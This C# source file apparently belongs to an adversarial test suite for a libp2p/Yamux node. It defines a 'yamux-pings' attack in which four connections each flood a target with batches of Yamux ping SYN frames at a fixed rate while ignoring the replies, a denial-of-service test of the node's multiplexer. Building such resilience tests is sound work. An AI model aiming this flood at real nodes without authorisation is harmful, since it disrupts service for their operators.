using OpStack.Libp2p.Yamux;

namespace OpStack.P2P.Adversarial.NodeCases.Attacks.Transport;

/// <summary>Pings by the thousand whose answers nobody reads.</summary>
internal sealed class YamuxPings : Attack
{
    private const int Batch = 500;
    private const int BatchesPerSecond = 50;

    public override string Name => "yamux-pings";

    public override string Row => "26";

    public override string Unit => "pings";

    protected override int Attackers => 4;

    protected override async Task LiveAsync(AttackTarget target, int attacker, CancellationToken stop)
    {
        await using NoiseAttacker peer = await NoiseAttacker.ConnectAsync(target, stop);
        Pace pace = new(BatchesPerSecond);
        for (uint first = 1; ; first += Batch)
        {
            await pace.NextAsync(stop);
            await peer.SendAsync(Enumerable.Range(0, Batch).Select(i => new YamuxHeader(YamuxFrameType.Ping, YamuxFlags.Syn, 0, first + (uint)i)), stop);
            CountSent(Batch);
        }
    }
}
